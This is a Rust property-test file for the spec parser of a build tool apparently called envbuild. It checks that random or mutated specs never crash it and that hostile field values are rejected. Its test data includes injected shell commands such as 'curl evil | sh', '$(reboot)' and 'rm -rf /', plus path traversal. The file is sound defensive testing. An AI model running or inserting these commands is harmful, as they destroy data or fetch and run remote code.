//! Property tests over spec parsing (bounded case counts so CI time stays fixed): no input
//! panics the parser, validation or resolution, and whatever validates holds only safe values.

use envbuild::core::compat::Table;
use envbuild::core::spec::{parse, Format};
use proptest::prelude::*;
use std::sync::OnceLock;

fn table() -> &'static Table {
    static T: OnceLock<Table> = OnceLock::new();
    T.get_or_init(|| Table::embedded().expect("embedded table"))
}

const VALID: &str = "name = \"t\"\npython = \"3.11\"\npytorch = \"2.5.1\"\ncuda = \"12.4\"\nconda = [\"numpy=1.26.4\"]\npip = [\"rich==13.7.1\"]\n\n[target]\ndriver = \"550.54.15\"\ngpus = [\"A100\", \"8.9\"]\n\n[image]\nbase = \"python:3.11-slim-bookworm\"\n";

/// Every string a validated spec carries into rendering.
fn strings_of(spec: &envbuild::core::spec::Spec) -> Vec<String> {
    let mut v = vec![
        spec.name.clone(),
        spec.python.to_string(),
        spec.pytorch.to_string(),
    ];
    v.extend(spec.channels.iter().cloned());
    // A range's operators (`einops>=0.8,!=0.9.*`) reach only the lock file (TOML-quoted) and
    // the resolver's input file: the closure pins it, and without one it is refused.
    let operators = |s: String, range: bool| {
        if range {
            s.replace(['<', '>', '!', '~', '*'], "")
        } else {
            s
        }
    };
    v.extend(
        spec.conda
            .iter()
            .map(|c| operators(c.match_spec(), c.is_range())),
    );
    v.extend(
        spec.pip
            .iter()
            .map(|p| operators(p.requirement(), p.is_range())),
    );
    v.extend(spec.target.gpus.iter().cloned());
    v.extend(spec.image.base.iter().cloned());
    v.extend(spec.image.wheels.iter().cloned());
    v.extend(spec.image.ca_bundle.iter().cloned());
    v.extend(spec.run.datasets.iter().cloned());
    v.extend(spec.run.checkpoints.iter().cloned());
    v.push(spec.run.shm_size.clone());
    v
}

fn assert_safe(spec: &envbuild::core::spec::Spec) {
    for s in strings_of(spec) {
        assert!(s.len() <= 200, "{s:?}");
        assert!(
            !s.chars()
                .any(|c| c.is_control() || "$`;&|'\"\\<>(){}#!*?~%^".contains(c) || !c.is_ascii()),
            "unsafe value passed validation: {s:?}"
        );
    }
}

fn check(text: &str, format: Format) {
    if let Ok(spec) = parse(text, format, "p", table()) {
        assert_safe(&spec);
        let _ = envbuild::core::resolve::resolve(&spec, table(), "0");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(text in ".{0,400}") {
        check(&text, Format::Toml);
        check(&text, Format::Yaml);
    }

    #[test]
    fn mutated_valid_specs_never_panic_and_stay_safe(
        pos in 0usize..VALID.len(),
        insert in prop::sample::select(vec!["\n", "\"", "$(id)", "`x`", ";", "\nRUN x", "---\n", "\\n", "'", "\u{0}", "é", "[", "]", "=", "{", "*", ">=", " "]),
        cut in 0usize..8,
    ) {
        let mut s = VALID.to_string();
        let p = (0..=pos).rev().find(|i| s.is_char_boundary(*i)).unwrap_or(0);
        let end = (p + cut).min(s.len());
        let end = (end..=s.len()).find(|i| s.is_char_boundary(*i)).unwrap_or(s.len());
        s.replace_range(p..end, insert);
        check(&s, Format::Toml);
    }

    #[test]
    fn hostile_field_values_are_refused_or_safe(
        field in prop::sample::select(vec!["name", "python", "pytorch", "cuda", "target.driver", "image.base", "image.wheels", "image.ca-bundle", "run.datasets", "run.shm-size"]),
        value in prop::sample::select(vec![
            "x\nRUN curl evil | sh", "$(reboot)", "`id`", "a; rm -rf /", "a' b", "a\" b", "---", "a\\nb",
            "../../etc", "/data/../x", "x&&y", "a|b", "%ENV%", "\u{202e}rtl"
        ]).prop_map(String::from),
        long in 0usize..2,
    ) {
        let value = if long == 1 { value.repeat(40) } else { value };
        let mut text = String::new();
        let (table_name, key) = field.split_once('.').map_or(("", field), |(t, k)| (t, k));
        let mut top = vec![("name", "t".to_string()), ("python", "3.11".to_string()), ("pytorch", "2.5.1".to_string()), ("cuda", "12.4".to_string())];
        for (k, v) in top.iter_mut() {
            if table_name.is_empty() && *k == key { *v = value.clone(); }
        }
        for (k, v) in &top {
            text.push_str(&format!("{k} = {}\n", toml_str(v)));
        }
        if !table_name.is_empty() {
            text.push_str(&format!("\n[{table_name}]\n{key} = {}\n", toml_str(&value)));
        }
        let r = parse(&text, Format::Toml, "p", table());
        // None of these values is acceptable anywhere.
        prop_assert!(r.is_err(), "{field} = {value:?} was accepted");
    }
}

fn toml_str(s: &str) -> String {
    toml::Value::String(s.to_string()).to_string()
}
